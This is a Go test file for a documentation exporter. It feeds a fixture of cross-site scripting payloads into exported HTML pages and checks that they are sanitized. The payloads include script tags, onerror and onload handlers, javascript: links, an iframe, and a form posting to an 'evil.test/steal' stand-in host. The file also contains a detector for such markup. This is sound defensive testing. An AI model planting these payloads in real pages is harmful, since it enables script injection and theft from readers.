package export

import (
	"context"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"golang.org/x/net/html"
)

// hostileTextSource is a docs source whose OpenAPI descriptions and
// docs.json banner carry script in every form a browser would run: a
// script element, an event handler, a javascript: link in Markdown and in
// HTML, an iframe and a form. Each payload that runs sets window.pwned.
func hostileTextSource() map[string]string {
	const (
		script  = `<script>window.pwned = "script"</script>`
		img     = `<img src="x" onerror="window.pwned = 'onerror'">`
		mdLink  = `[click](javascript:window.pwned='md-link')`
		rawLink = `<a href="JaVaScRiPt:window.pwned='raw-link'">raw</a>`
		iframe  = `<iframe src="javascript:window.pwned='iframe'"></iframe>`
		form    = `<form action="https://evil.test/steal"><input name="q"><button>go</button></form>`
		svg     = `<svg onload="window.pwned='svg'"></svg>`
		style   = `<p style="background:url(https://evil.test/x)">styled</p>`
	)
	all := strings.Join([]string{"Text with **bold**.", script, img, mdLink, rawLink, iframe, form, svg, style}, "\n\n")
	js := func(s string) string { return strings.ReplaceAll(strings.ReplaceAll(s, `\`, `\\`), `"`, `\"`) }
	d := strings.ReplaceAll(js(all), "\n", `\n`)
	spec := `{"openapi": "3.1.0", "info": {"title": "Evil", "version": "1", "description": "` + d + `"},
	  "servers": [{"url": "https://api.evil.test"}],
	  "paths": {"/things/{id}": {"get": {"summary": "Get a thing", "description": "` + d + `",
	    "parameters": [{"name": "id", "in": "path", "required": true, "description": "` + d + `", "schema": {"type": "string"}}],
	    "responses": {"200": {"description": "` + d + `", "content": {"application/json": {"schema": {"$ref": "#/components/schemas/Thing"}}}}}}}},
	  "components": {"schemas": {"Thing": {"type": "object", "description": "` + d + `",
	    "properties": {"name": {"type": "string", "description": "` + d + `"}}}}}}`
	return map[string]string{
		"docs.json": `{"name": "Evil", "banner": {"content": "` + d + `"},
		  "navigation": {"tabs": [{"tab": "Guide", "pages": ["index"]}, {"tab": "API", "openapi": "openapi.json"}]}}`,
		"index.mdx":    "---\ntitle: Home\n---\n\nWelcome.\n",
		"openapi.json": spec,
	}
}

// unsafeInPage lists what a sanitized description must never leave in a
// page, read as a browser tokenizes it (escaped text is harmless): an
// element that runs or embeds something (script with a payload, iframe,
// object, embed, form), an event handler attribute, a script URL,
// or a style attribute reaching another host.
func unsafeInPage(page string) []string {
	var found []string
	z := html.NewTokenizer(strings.NewReader(page))
	inScript := false
	for {
		switch z.Next() {
		case html.ErrorToken:
			return found
		case html.TextToken:
			if inScript && strings.Contains(string(z.Text()), "pwned") {
				found = append(found, "a script with a payload")
			}
		case html.EndTagToken:
			inScript = false
		case html.StartTagToken, html.SelfClosingTagToken:
			tok := z.Token()
			inScript = tok.Data == "script"
			switch tok.Data {
			case "iframe", "object", "embed", "form":
				found = append(found, "<"+tok.Data+">")
			}
			for _, a := range tok.Attr {
				v := strings.ToLower(strings.TrimSpace(a.Val))
				switch {
				case strings.HasPrefix(a.Key, "on"):
					found = append(found, "<"+tok.Data+" "+a.Key+">")
				case strings.HasPrefix(v, "javascript:"):
					found = append(found, "<"+tok.Data+" "+a.Key+"="+a.Val+">")
				case a.Key == "style" && strings.Contains(v, "evil"):
					found = append(found, "<"+tok.Data+" style>")
				}
			}
		}
	}
}

// TestExport_descriptionsAndBannerAreSanitized exports a source whose spec
// descriptions and banner hold script, in every kind, and checks no page
// keeps any of it while the Markdown formatting around it survives.
func TestExport_descriptionsAndBannerAreSanitized(t *testing.T) {
	for _, kind := range []Kind{KindCloud, KindClientHosted, KindAirGapped} {
		t.Run(string(kind), func(t *testing.T) {
			dir, _ := exportTo(t, Request{Source: mapFS(hostileTextSource()), Kind: kind})
			pages := 0
			err := filepath.WalkDir(dir, func(p string, d os.DirEntry, err error) error {
				if err != nil || d.IsDir() || !strings.HasSuffix(p, ".html") {
					return err
				}
				pages++
				b, err := os.ReadFile(p)
				if err != nil {
					return err
				}
				for _, m := range unsafeInPage(string(b)) {
					t.Errorf("%s keeps %s", filepath.Base(p), m)
				}
				return nil
			})
			if err != nil {
				t.Fatal(err)
			}
			if pages < 3 {
				t.Fatalf("only %d pages exported", pages)
			}
			index := readOut(t, dir, "index.html")
			if !strings.Contains(index, "<strong>bold</strong>") {
				t.Error("the banner lost its Markdown formatting")
			}
		})
	}
}

// TestBrowser_descriptionsAndBannerRunNoScript opens the exported
// endpoint, schema and home pages in Chromium, from file:// as a reader of
// a downloaded bundle would, and checks none of the payloads ran.
func TestBrowser_descriptionsAndBannerRunNoScript(t *testing.T) {
	bin := chromium(t)
	for _, kind := range []Kind{KindCloud, KindAirGapped} {
		t.Run(string(kind), func(t *testing.T) {
			dir, _ := exportTo(t, Request{Source: mapFS(hostileTextSource()), Kind: kind})
			var pages []string
			_ = filepath.WalkDir(dir, func(p string, d os.DirEntry, err error) error {
				if err == nil && !d.IsDir() && strings.HasSuffix(p, ".html") {
					pages = append(pages, p)
				}
				return nil
			})
			b, ctx, must := browserSession(t, bin, 90*time.Second)
			for _, p := range pages {
				u := (&url.URL{Scheme: "file", Path: p}).String()
				must(b.call("Page.navigate", map[string]any{"url": u}, nil))
				must(b.waitFor(ctx, `document.readyState === "complete" && location.pathname.endsWith(`+jsString(filepath.Base(p))+`)`))
				// Give error handlers of broken images a moment to fire.
				must(b.pause(100 * time.Millisecond))
				var pwned string
				must(b.eval(`String(window.pwned || "")`, &pwned))
				if pwned != "" {
					t.Errorf("%s ran the %s payload", filepath.Base(p), pwned)
				}
			}
		})
	}
}

func jsString(s string) string {
	return `"` + strings.ReplaceAll(strings.ReplaceAll(s, `\`, `\\`), `"`, `\"`) + `"`
}

// TestBrowser_cloudPolicyRefusesInjectedScript opens a cloud and a
// client-hosted page from file:// in Chromium: our scripts and the page's
// own inline script (written in its MDX) run, while script that reaches
// the page some other way (an event handler added to the document) is
// refused by the page's policy and reported.
func TestBrowser_cloudPolicyRefusesInjectedScript(t *testing.T) {
	bin := chromium(t)
	src := mapFS(map[string]string{
		"docs.json": `{"navigation": {"pages": ["index"]}}`,
		"index.mdx": "---\ntitle: Home\n---\n\n<script>window.ownScript = 1</script>\n\nHello.\n",
	})
	for _, kind := range []Kind{KindCloud, KindClientHosted} {
		t.Run(string(kind), func(t *testing.T) {
			dir, _ := exportTo(t, Request{Source: src, Kind: kind})
			b := startBrowser(t, bin)
			tr, err := watch(b)
			if err != nil {
				t.Fatal(err)
			}
			ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
			defer cancel()
			u := (&url.URL{Scheme: "file", Path: filepath.Join(dir, "index.html")}).String()
			if err := b.call("Page.navigate", map[string]any{"url": u}, nil); err != nil {
				t.Fatal(err)
			}
			if err := b.waitFor(ctx, `document.readyState === "complete" && document.documentElement.classList.contains("js")`); err != nil {
				t.Fatalf("our scripts did not run under the policy: %v", err)
			}
			var own int
			if err := b.eval(`window.ownScript || 0`, &own); err != nil {
				t.Fatal(err)
			}
			if own != 1 {
				t.Error("the page's own inline script did not run")
			}
			if err := b.eval(`document.body.insertAdjacentHTML("beforeend", '<img src="x" onerror="window.pwned = 1">'); 0`, nil); err != nil {
				t.Fatal(err)
			}
			if err := b.pause(200 * time.Millisecond); err != nil {
				t.Fatal(err)
			}
			var pwned int
			if err := b.eval(`window.pwned || 0`, &pwned); err != nil {
				t.Fatal(err)
			}
			if pwned != 0 {
				t.Error("an injected event handler ran: the page has no working policy")
			}
			if len(tr.violations) == 0 {
				t.Error("the refused handler was not reported as a policy violation")
			}
		})
	}
}

// TestExport_specImagesOnlyFromTheBundle: an image in a spec description
// that comes from another server is left out (it would tell that server
// who reads the docs), with a warning naming it; one from the bundle
// stays; the banner, written by the repository, keeps web images.
func TestExport_specImagesOnlyFromTheBundle(t *testing.T) {
	src := mapFS(map[string]string{
		"docs.json": `{"banner": {"content": "![b](https://cdn.test/banner.png)"}, "navigation": {"tabs": [{"tab": "API", "openapi": "o.json"}]}}`,
		"img/d.png": "png",
		"o.json": `{"openapi": "3.1.0", "paths": {"/a": {"get": {"summary": "A", "description": "![pixel](https://tracker.test/p.png) and ![local](/img/d.png)",
			"responses": {"200": {"description": "ok"}}}}}}`,
	})
	var warnings []string
	dir, _ := exportTo(t, Request{Source: src, Kind: KindCloud, Warn: func(wrn Warning) { m := wrn.Message; warnings = append(warnings, m) }})
	page := readOut(t, dir, "api-reference/a.html")
	if strings.Contains(page, "tracker.test") {
		t.Error("a spec description's remote image is kept")
	}
	if !strings.Contains(page, `src="../img/d.png"`) {
		t.Error("a spec description's image from the bundle is lost")
	}
	if !strings.Contains(page, `src="https://cdn.test/banner.png"`) {
		t.Error("the banner's web image is lost in a cloud bundle")
	}
	if !strings.Contains(strings.Join(warnings, "\n"), "https://tracker.test/p.png") {
		t.Errorf("no warning names the image left out: %q", warnings)
	}
}
